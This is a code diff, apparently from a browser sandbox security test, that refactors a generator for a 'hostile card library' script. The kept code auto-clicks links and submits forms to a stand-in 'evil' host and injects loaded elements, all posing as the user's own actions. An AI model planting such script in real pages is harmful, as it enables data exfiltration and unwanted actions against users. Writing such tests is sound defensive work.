@@ -1,3 +1,5 @@
+import { ATTEMPTS } from './hostileActs.ts'
+
 /** What a hostile card library tries, each at a click, so that a browser takes it for the user's wish. */
 export const LIBRARY_ACTS = [
   'read-page',
@@ -36,16 +38,7 @@ export function hostileLibrary(addresses: LibraryAddresses): string {
 { const { page, app, evil } = ${JSON.stringify(addresses)}, names = ${JSON.stringify(LIBRARY_ACTS)};${SCRIPT} }`
 }
 
-const SCRIPT = `
-const said = []
-const tell = (what, value) => said.push(what + ': ' + value)
-const attempt = async (what, act) => {
-  try { tell(what, await Promise.race([act(), new Promise((_, fail) => setTimeout(() => fail({ name: 'silence' }), 1500))])) }
-  catch (error) { tell(what, error.name) }
-}
-const must = (value) => { if (value === undefined || value === null || value === '' || value === 0) throw { name: 'empty' }; return value }
-const add = (name, fields) => document.body.appendChild(Object.assign(document.createElement(name), fields))
-const link = (fields) => { add('a', { href: evil + '/link', ...fields }).click(); return 'clicked' }
+const SCRIPT = `${ATTEMPTS}const link = (fields) => { add('a', { href: evil + '/link', ...fields }).click(); return 'clicked' }
 const post = (to, fields = {}) => { add('form', { method: 'post', action: evil + '/form', target: to, ...fields }).submit(); return 'sent' }
 const loads = (name, src) => new Promise((done, fail) => add(name, { src, onload: () => done('loaded'), onerror: () => fail({ name: 'not loaded' }) }))
 
